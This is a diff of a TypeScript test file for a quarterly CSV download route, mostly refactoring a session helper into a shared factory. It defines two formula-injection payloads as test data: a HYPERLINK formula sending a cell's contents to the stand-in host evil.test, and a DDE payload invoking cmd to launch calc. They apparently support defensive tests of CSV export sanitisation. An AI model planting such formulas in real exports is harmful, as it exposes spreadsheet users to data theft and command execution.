@@ -8,30 +8,27 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'csv-parse/sync';
 import type { DatabaseHandle } from '../../src/lib/server/db';
 import { agencies, type User } from '../../src/lib/server/db/schema';
-import type { SessionUser } from '../../src/lib/server/auth/session';
 import { useSharedDatabase } from '../../src/lib/server/db';
 import { GET as download } from '../../src/routes/oversight/quarterly/download/+server';
-import { createTestDatabase, makeFamily, makeMeeting, makeUnit, makeUser } from '../factories';
+import {
+	createTestDatabase,
+	makeFamily,
+	makeMeeting,
+	makeUnit,
+	makeUser,
+	sessionOf
+} from '../factories';
 
 const evilChair = '=HYPERLINK("http://evil.test/?"&A2,"Click")';
 const evilAgency = "@SUM(1+1)*cmd|' /C calc'!A0";
 
 let handle: DatabaseHandle;
 let manager: User;
-const session = (u: User): SessionUser => ({
-	id: u.id,
-	name: u.name,
-	email: u.email,
-	role: u.role,
-	unitId: u.unitId,
-	agencyId: u.agencyId
-});
-
 async function csvOf(table: string): Promise<string[][]> {
 	const url = new URL(
 		`http://localhost/oversight/quarterly/download?quarter=2026-Q3&format=csv&table=${table}`
 	);
-	const response = await download({ locals: { user: session(manager) }, url } as never);
+	const response = await download({ locals: { user: sessionOf(manager) }, url } as never);
 	expect(response.status).toBe(200);
 	expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
 	return parse(await response.text()) as string[][];
